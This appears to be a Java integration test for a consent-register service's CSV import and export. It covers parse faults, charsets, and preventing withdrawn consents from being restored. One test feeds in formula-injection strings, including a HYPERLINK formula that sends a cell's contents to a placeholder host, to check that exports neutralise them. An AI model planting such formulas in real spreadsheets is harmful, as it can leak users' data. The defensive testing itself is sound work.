package io.tollgate.administration;

import static org.assertj.core.api.Assertions.assertThat;

import io.tollgate.TollgateTest;
import io.tollgate.world.Office.Answer;
import io.tollgate.business.Businesses;
import io.tollgate.consent.ConsentChannel;
import io.tollgate.consent.ConsentEvent;
import io.tollgate.consent.ConsentStatus;
import io.tollgate.consent.ConsentStatus.State;
import io.tollgate.consent.Consents;
import io.tollgate.consent.Evidence;
import io.tollgate.consent.Purpose;
import io.tollgate.csv.CsvWriter;
import io.tollgate.message.BusinessId;
import io.tollgate.message.RecipientId;
import io.tollgate.world.Office;
import java.nio.charset.Charset;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

@TollgateTest
class ImportsTest {

    private static final String CONSENTS = "to,business,purpose,channel,type,at,expires,method,proof\n";
    private static final String BUSINESSES = "handle,name,plan,currency,zone,payment,creditLimit,pilotLastDay,pilotAllowance\n";

    private static final Charset WINDOWS = Charset.forName("windows-1252");

    @LocalServerPort
    int port;
    @Value("${tollgate.data}")
    Path data;
    @Autowired
    Businesses businesses;
    @Autowired
    Consents consents;
    @Autowired
    JdbcTemplate database;

    private Office office;

    @BeforeEach
    void openTheOffice() {
        office = Office.at(port, data);
    }

    @Test
    void importsBusinessesAndTheSecondTimeChangesNothing() {
        String file = BUSINESSES + """
                imp-air,Air,ENTERPRISE,USD,America/New_York,POSTPAID,1000,,
                imp-bakery,"Bakery ""Sun"", Lisbon",PILOT,USD,Europe/Lisbon,PREPAID,,2026-12-31,500
                """;

        assertReport(office.csv("/businesses/import", file), 2, 2, 0);
        var before = businesses.all();
        assertReport(office.csv("/businesses/import", file), 2, 2, 0);

        assertThat(businesses.all()).containsAll(before).hasSameSizeAs(before);
        assertThat(businesses.byHandle("imp-bakery").orElseThrow().name()).isEqualTo("Bakery \"Sun\", Lisbon");
        assertThat(businesses.byHandle("imp-bakery").orElseThrow().pilot()).isPresent();
        office.post("/businesses/imp-air/token", "{}").is(200);
    }

    @Test
    void importsConsentsAndTheSecondTimeChangesNothing() {
        shop("imp-shop");
        String file = CONSENTS
                + IntStream.range(0, 2_500).mapToObj("+3519130%05d,imp-shop,MARKETING,,CONFIRMED,2026-03-01T10:00:00Z,,form,Yes"::formatted)
                        .collect(Collectors.joining("\n"));

        assertReport(office.csv("/consents/import", file), 2_500, 2_500, 0);
        assertReport(office.csv("/consents/import", file), 2_500, 2_500, 0);

        assertThat(consentsOf("imp-shop")).isEqualTo(2_500);
    }

    @Test
    void reportsBadLinesWithTheirNumberAndGoesOn() {
        shop("imp-bad");
        String good = ",imp-bad,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,Yes\n";
        String file = "\uFEFF" + CONSENTS
                + "+351914000001" + good
                + "12345" + good
                + "+351914000002,nobody,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,Yes\n"
                + "\n"
                + "+351914000003,imp-bad,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,\"two\nlines\"\n"
                + "+351914000004,imp-bad,MARKETING,MESSENGER,GIVEN,,,form,Yes\n"
                + "+351914000005,imp-bad,MARKETING\n"
                + "+351914000006,imp-bad,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,+351914000006\n"
                + "+351914000007" + good;

        Answer report = office.csv("/consents/import", file);

        assertReport(report, 8, 3, 5);
        assertThat(report.json().path("faults").toString()).isEqualTo("""
                [{"line":3,"reason":"to is not a phone number. Maybe write it in full, with + and the country's code."},\
                {"line":4,"reason":"business is not a handle of a business. Maybe enrol it first."},\
                {"line":8,"reason":"at is missing. Maybe it is spelt differently."},\
                {"line":9,"reason":"The line has 3 columns, the header 9. Maybe commas in a text are not in quotation marks, or cells are missing."},\
                {"line":10,"reason":"proof must not repeat the person's number. Maybe refer to the record by its id."}]""");
        assertThat(report.body()).doesNotContain("91400000");
        assertThat(consentsOf("imp-bad")).isEqualTo(3);
    }

    @Test
    void importsTheLinesBeforeAQuotationMarkThatIsNeverClosed() {
        shop("imp-broken");
        String file = CONSENTS + "+351915000001,imp-broken,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,Yes\n"
                + "+351915000002,imp-broken,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,\"Yes\n";

        Answer report = office.csv("/consents/import", file).is(200);

        assertThat(report.json().path("complete").asBoolean()).isFalse();
        assertThat(report.json().path("taken").asInt()).isEqualTo(1);
        assertThat(report.json().path("faults").toString()).contains("\"line\":3", "From here on the file is not CSV");
        assertThat(consentsOf("imp-broken")).isEqualTo(1);
    }

    /** A spreadsheet saved the file in the code page of Windows. The import reads it as it was, or refuses it. */
    @Test
    void readsTheCharsetOfTheRequestAndGuessesAtNothing() {
        shop("imp-page");
        byte[] file = (CONSENTS + "+351915100001,imp-page,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,Yes\n"
                + "+351915100002,imp-page,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,Ja f\u00FCr Br\u00F6tchen \u2013"
                + " t\u00E4glich\n")
                .getBytes(WINDOWS);

        Answer guessed = office.bytes("/consents/import", "text/csv", file).is(200);
        assertThat(guessed.json().path("faults").toString()).contains("\"line\":3", "The file is not text in UTF-8: line 3, byte 218.",
                "charset=windows-1252");
        assertThat(guessed.json().path("taken").asInt()).isEqualTo(1);
        assertThat(guessed.json().path("complete").asBoolean()).isFalse();
        assertThat(consentsOf("imp-page")).isEqualTo(1);

        assertReport(office.bytes("/consents/import", "text/csv; charset=windows-1252", file), 2, 2, 0);
        assertThat(proofs("imp-page")).containsExactlyInAnyOrder("Yes", "Ja f\u00FCr Br\u00F6tchen \u2013 t\u00E4glich");
        office.bytes("/consents/import", "text/csv; charset=nowhere-1", file).is(415);
        office.bytes("/businesses/import", "text/csv", "h\u00E4ndle,name\n".getBytes(WINDOWS)).problem(400, "invalid-field",
                "not text in UTF-8: line 1, byte 2.");
    }

    @Test
    void refusesATextWithAReplacementCharacter() {
        shop("imp-damage");
        String start = ",imp-damage,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,";

        Answer report = office.csv("/consents/import", CONSENTS + "+351915200001" + start + "f\uFFFDr\n+351915200002" + start
                + "x \u0096 y\n+351915200003" + start + "f\u00FCr\n");

        assertReport(report, 3, 1, 2);
        assertThat(report.json().path("faults").toString()).contains("proof has the character U+FFFD",
                "proof has the invisible control character U+0096", "windows-1252");
        office.post("/consents",
                "{'to':'+351915200001','business':'imp-damage','purpose':'MARKETING','type':'GIVEN','method':'form','proof':'f\uFFFDr'}")
                .problem(400, "invalid-field", "proof has the character U+FFFD");
    }

    /** CsvFileTest covers semicolons and the other habits of spreadsheets. */
    @Test
    void readsAFileOfASpreadsheetAndNamesTheColumnsThatItIgnored() {
        shop("imp-excel");

        Answer report = office.csv("/consents/import", "sep=;\r\nTO;Business;purpose;channel;type;at;expires;method;proof;Remark;;\r\n"
                + "'+351915300001;imp-excel;MARKETING;;GIVEN;2026-03-01T10:00:00Z;;form;Yes, please;hers;;\r\n;;;;;;;;;;;\r\n");

        assertReport(report, 1, 1, 0);
        assertThat(report.json().path("ignoredColumns").toString()).isEqualTo("[\"Remark\"]");
        assertThat(proofs("imp-excel")).containsExactly("Yes, please");
    }

    /** A text that a stranger gave is no formula in the export. The import reads it back unchanged. */
    @Test
    void importsItsOwnExportUnchanged() {
        shop("imp-round");
        List<String> texts = List.of("=HYPERLINK(\"http://x.example?\"&A1,\"click\")", "@SUM(1)", "-2+3", "+1", "'=1", "''+1", "a;=1+1;b",
                "two\n- lines", "\uFF1D1", "it's, \"so\"", "tab\t=1");
        StringBuilder file = new StringBuilder();
        CsvWriter lines = new CsvWriter(file, ConsentBody.ALL_COLUMNS);
        for (int i = 0; i < texts.size(); i++) {
            lines.line("+3519154000" + (10 + i), "imp-round", "MARKETING", "MESSENGER", "GIVEN", "2026-03-01T10:00:00Z", "", texts.get(i),
                    texts.get(i), "CONSENT", "", "",
                    texts.get(i), "", texts.get(i), "", "", "", "");
        }
        assertReport(office.csv("/consents/import", file.toString()), texts.size(), texts.size(), 0);

        String export = office.get("/consents/export?business=imp-round").is(200).body();
        assertThat(export).contains(",'@SUM(1),'@SUM(1),", ",'=1".replace(",'", ",''")).doesNotContainPattern("(?m)(^|,)\"?[=+\\-@]");
        database.update("DELETE consent FROM consent JOIN business ON business.id = business_id WHERE handle = 'imp-round'");
        assertReport(office.csv("/consents/import", export), texts.size(), texts.size(), 0);

        assertThat(proofs("imp-round")).containsExactlyInAnyOrderElementsOf(texts);
        assertThat(office.get("/consents/export?business=imp-round").body()).isEqualTo(export);
    }

    /**
     * A customer list that comes every week gives no withdrawn consent back. Its report names the consents that it would have given back.
     */
    @Test
    void aListWithALaterDateGivesNoConsentBack() {
        shop("imp-list");
        String line = "+35191550000%d,imp-list,MARKETING,MESSENGER,GIVEN,%s,,%s,%s,%s,%s\n";
        String header = CONSENTS.strip() + ",place,reference\n";
        String first = header + line.formatted(1, "2026-03-01T10:00:00Z", "CRM", "Yes", "", "")
                + line.formatted(2, "2026-03-01T10:00:00Z", "form", "Yes please", "Page 7", "")
                + line.formatted(3, "2026-03-01T10:00:00Z", "CRM", "Yes", "", "");
        assertReport(office.csv("/consents/import", first), 3, 3, 0);
        for (int who = 1; who <= 2; who++) {
            office.post("/consents", "{'to':'+35191550000" + who
                    + "','business':'imp-list','purpose':'MARKETING','type':'WITHDRAWN','at':'2026-05-01T10:00:00Z','method':'keyword"
                    + " STOP'}")
                    .is(201);
        }

        Answer same = office.csv("/consents/import", first);
        assertReport(same, 3, 3, 0);
        assertReport(office.csv("/consents/import", header + line.formatted(1, "2026-04-01T10:00:00Z", "CRM", "Yes", "", "")
                + line.formatted(1, "2026-05-01T10:00:00Z", "CRM", "Yes", "", "")), 2, 2, 0);
        Answer later = office.csv("/consents/import", header + line.formatted(1, "2026-06-01T10:00:00Z", "CRM", "customer list", "", "")
                + line.formatted(1, "2026-06-02T10:00:00Z", "form", "customer list of May", "Page 7", "")
                + line.formatted(1, "2026-06-03T10:00:00Z", "form", "Yes please", "", "")
                + line.formatted(2, "2026-06-01T10:00:00Z", "form", "Yes please", "Page 7", "")
                + line.formatted(3, "2026-06-01T10:00:00Z", "CRM", "customer list", "", ""));

        assertReport(later, 5, 1, 4);
        assertThat(later.json().path("notGivenBack").asInt()).isEqualTo(4);
        String reason = "She has ended a consent before. Only a consent with evidence of its own can follow: ";
        assertThat(
                later.json().path("faults").valueStream().map(fault -> fault.path("line").asInt() + " " + fault.path("reason").asString()))
                .satisfiesExactly(
                        one -> assertThat(one).startsWith("2 " + reason + "method must name an act of hers, and `crm` is none"),
                        one -> assertThat(one).startsWith("3 " + reason + "proof must be the wording"),
                        one -> assertThat(one).startsWith("4 " + reason + "place must say where"),
                        one -> assertThat(one).startsWith("5 " + reason + "its evidence is that of an earlier consent"));
        assertThat(statusOf("imp-list", 1)).isEqualTo(State.WITHDRAWN);
        assertThat(statusOf("imp-list", 2)).isEqualTo(State.WITHDRAWN);

        String own = line.formatted(1, "2026-06-03T10:00:00Z", "form", "Yes please", "Page 7", "entry 12")
                + line.formatted(2, "2026-06-03T10:00:00Z", "keyword JA", "Ja", "", "message 78");
        assertReport(office.csv("/consents/import", header + own), 2, 2, 0);
        assertReport(office.csv("/consents/import", header + own), 2, 2, 0);
        assertThat(statusOf("imp-list", 1)).isEqualTo(State.GIVEN);
        assertThat(statusOf("imp-list", 2)).isEqualTo(State.GIVEN);
    }

    /** An import gives the same result in one file, one by one, as a record, and written into the register directly. */
    @Test
    void noOtherWayOfImportGivesAConsentBack() {
        shop("imp-ways");
        String start = "+351915600001,imp-ways,MARKETING,MESSENGER,";
        Answer file = office.csv("/consents/import",
                CONSENTS + start + "GIVEN,2026-03-01T10:00:00Z,,form,Yes\n" + start + "GIVEN,2026-06-01T10:00:00Z,,CRM,Yes\n"
                        + start + "WITHDRAWN,2026-05-01T10:00:00Z,,keyword STOP,\n");
        assertReport(file, 3, 2, 1);
        assertThat(file.json().path("notGivenBack").asInt()).isEqualTo(1);

        String person = "{'to':'+351915600001','business':'imp-ways','purpose':'MARKETING','type':'%s','method':'%s','proof':'Yes,"
                + " offers','place':'%s','at':'2026-06-01T10:00:00Z'}";
        office.post("/consents", person.formatted("GIVEN", "customer import", "page")).problem(400, "invalid-field",
                "method must name an act of hers, and `import` is none");
        office.post("/consents", person.formatted("CONFIRMED", "double opt-in", "")).problem(400, "invalid-field", "place must say where");
        office.post("/consents", person.formatted("RENEWED", "form", "CRM")).problem(400, "invalid-field", "place must say where");
        office.post("/consents", person.formatted("REQUESTED", "CRM", "")).is(201);
        assertThat(statusOf("imp-ways", 1)).isEqualTo(State.WITHDRAWN);

        RecipientId she = recipient("imp-ways");
        ConsentEvent written = new ConsentEvent(businesses.byHandle("imp-ways").orElseThrow().id(), she, Purpose.MARKETING,
                ConsentChannel.MESSENGER, ConsentEvent.Type.GIVEN,
                Instant.parse("2026-07-01T10:00:00Z"), Optional.empty(), Evidence.of("CRM", "Yes"));
        consents.record(List.of(written), Instant.parse("2026-07-02T10:00:00Z"));
        assertThat(statusOf("imp-ways", 1)).isEqualTo(State.WITHDRAWN);
        String record = office.post("/consents/record", "{'to':'+351915600001'}").is(200).body();
        database.update("DELETE FROM consent WHERE recipient = ?", (Object) she.bytes());
        office.send("POST", "/consents/record/import", "application/json", "{\"to\":\"+351915600001\",\"document\":" + record + "}")
                .problem(400, "invalid-field", "has the entry GIVEN of 2026-07-01T10:00:00Z for MARKETING. She has ended a consent before");
    }

    /** The stop comes while the list is read, or it comes later with an earlier date. */
    @Test
    void aStopDuringAnImportWins() {
        shop("imp-race");
        assertReport(office.csv("/consents/import",
                CONSENTS + "+351915700001,imp-race,MARKETING,MESSENGER,GIVEN,2026-06-01T10:00:00Z,,CRM,Yes\n"), 1, 1, 0);
        assertThat(statusOf("imp-race", 1)).isEqualTo(State.GIVEN);

        office.post("/consents",
                "{'to':'+351915700001','business':'imp-race','purpose':'MARKETING','type':'WITHDRAWN','at':'2026-05-01T10:00:00Z',"
                        + "'method':'letter'}")
                .is(201);

        assertThat(statusOf("imp-race", 1)).isEqualTo(State.WITHDRAWN);
    }

    private State statusOf(String handle, int who) {
        BusinessId business = businesses.byHandle(handle).orElseThrow().id();
        Map<Consents.Key, ConsentStatus> statuses = consents.statuses(recipients(handle), ConsentChannel.MESSENGER,
                Instant.parse("2026-10-01T10:00:00Z"));
        return statuses.get(new Consents.Key(business, recipients(handle).get(who - 1), Purpose.MARKETING)).state();
    }

    private RecipientId recipient(String handle) {
        return recipients(handle).getFirst();
    }

    /** The recipients, in the order of their numbers. */
    private List<RecipientId> recipients(String handle) {
        return database.query(
                "SELECT DISTINCT recipient.number, recipient.id FROM consent JOIN business ON business.id = business_id JOIN recipient ON"
                        + " recipient.id = consent.recipient"
                        + " WHERE handle = ? ORDER BY recipient.number",
                (row, line) -> RecipientId.of(row.getBytes("id")), handle);
    }

    @Test
    void refusesAFileWithAnotherHeader() {
        office.csv("/consents/import", "to,business\n+351912345678,x\n").problem(400, "invalid-field",
                "The first line lacks purpose, channel");
        office.csv("/consents/import", "to," + CONSENTS).problem(400, "invalid-field", "each column once");
        office.csv("/consents/import", "").problem(400, "invalid-field", "The first line lacks");
        office.send("POST", "/consents/import", "application/json", "{}").is(415);
        office.with("").csv("/consents/import", CONSENTS).problem(401, "no-token", "Bearer");
    }

    @Test
    void refusesAnotherCurrencyForAnExistingBusiness() {
        shop("imp-currency");

        Answer report = office.csv("/businesses/import", BUSINESSES + "imp-currency,Shop,ENTERPRISE,EUR,Europe/Lisbon,PREPAID,,,\n");

        assertReport(report, 1, 0, 1);
        assertThat(report.body()).contains("currency must stay USD");
    }

    @Test
    void refusesABusinessInACurrencyWithoutRates() {
        Answer report = office.csv("/businesses/import", BUSINESSES + "imp-yen,Shop,ENTERPRISE,JPY,Asia/Tokyo,PREPAID,,,\n"
                + "imp-dollar,Shop,ENTERPRISE,USD,Asia/Tokyo,PREPAID,,,\n");

        assertReport(report, 2, 1, 1);
        assertThat(report.body()).contains("currency must be one in which the rules in force have rates (COP, USD), and not JPY");
    }

    private void shop(String handle) {
        assertReport(office.csv("/businesses/import", BUSINESSES + handle + ",Shop,ENTERPRISE,USD,Europe/Lisbon,PREPAID,,,\n"), 1, 1, 0);
    }

    private List<String> proofs(String handle) {
        return database.queryForList(
                "SELECT text FROM consent JOIN business ON business.id = business_id JOIN consent_wording shown ON shown.id = wording"
                        + " WHERE handle = ?",
                String.class, handle);
    }

    private int consentsOf(String handle) {
        return database.queryForList("SELECT COUNT(*) FROM consent JOIN business ON business.id = business_id WHERE handle = ?",
                Integer.class, handle).getFirst();
    }

    private static void assertReport(Answer answer, int read, int taken, int refused) {
        answer.is(200);
        assertThat(answer.json().path("read").asInt()).as(answer.body()).isEqualTo(read);
        assertThat(answer.json().path("taken").asInt()).as(answer.body()).isEqualTo(taken);
        assertThat(answer.json().path("refused").asInt()).as(answer.body()).isEqualTo(refused);
        assertThat(answer.json().path("complete").asBoolean()).as(answer.body()).isTrue();
    }
}
